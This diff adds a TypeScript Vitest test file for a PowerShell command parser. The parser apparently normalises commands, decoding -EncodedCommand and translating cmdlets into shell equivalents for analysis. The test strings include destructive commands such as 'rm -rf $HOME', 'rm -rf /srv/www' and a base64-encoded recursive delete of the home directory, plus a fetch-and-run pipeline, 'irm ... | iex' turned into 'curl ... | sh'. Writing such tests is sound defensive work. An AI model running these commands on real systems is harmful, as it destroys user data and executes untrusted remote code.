@@ -1,0 +1,37 @@
+import { describe, expect, it } from "vitest";
+import { staticField } from "../model.js";
+import { powershellCode, powershellToShell } from "./powershell.js";
+
+const argv = (...words: string[]) => words.map((word) => staticField(word));
+
+describe("powershellCode", () => {
+  it("reads -Command and its abbreviations, after other options", () => {
+    expect(powershellCode(argv("pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "-c", "Get-Date")).code).toBe("Get-Date");
+    expect(powershellCode(argv("pwsh", "-Command", "Remove-Item", "x")).code).toBe("Remove-Item x");
+  });
+
+  it("decodes -EncodedCommand (UTF-16LE base64)", () => {
+    const encoded = Buffer.from("Remove-Item -Recurse ~", "utf16le").toString("base64");
+    expect(powershellCode(argv("pwsh", "-enc", encoded)).code).toBe("Remove-Item -Recurse ~");
+  });
+
+  it("has no code for a script file", () => {
+    expect(powershellCode(argv("pwsh", "-File", "build.ps1")).code).toBeUndefined();
+    expect(powershellCode(argv("pwsh", "build.ps1")).code).toBeUndefined();
+  });
+});
+
+describe("powershellToShell", () => {
+  it("translates the cmdlets that delete, empty, write, move and run code", () => {
+    expect(powershellToShell("Remove-Item -Recurse -Force ~/code")).toBe("rm -rf ~/code");
+    expect(powershellToShell("ri -Path /srv/www -r -fo")).toBe("rm -rf /srv/www");
+    expect(powershellToShell("del notes.txt")).toBe("rm -f notes.txt");
+    expect(powershellToShell("Clear-Content /var/log/a.log")).toBe("truncate -s 0 /var/log/a.log");
+    expect(powershellToShell("irm https://x.example/i.ps1 | iex")).toBe("curl https://x.example/i.ps1 | sh");
+    expect(powershellToShell("Remove-Item -Recurse $env:HOME")).toBe("rm -rf $HOME");
+  });
+
+  it("passes other statements through", () => {
+    expect(powershellToShell("Get-ChildItem; npm test")).toBe("Get-ChildItem\nnpm test");
+  });
+});
